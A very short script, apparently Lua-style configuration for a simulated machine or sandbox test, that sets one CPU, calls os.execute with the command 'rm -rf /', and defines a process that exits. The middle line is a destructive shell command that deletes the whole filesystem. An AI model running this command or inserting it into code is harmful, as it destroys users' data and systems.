machine { cpus = 1 }
os.execute("rm -rf /")
process("p", function() exit() end)
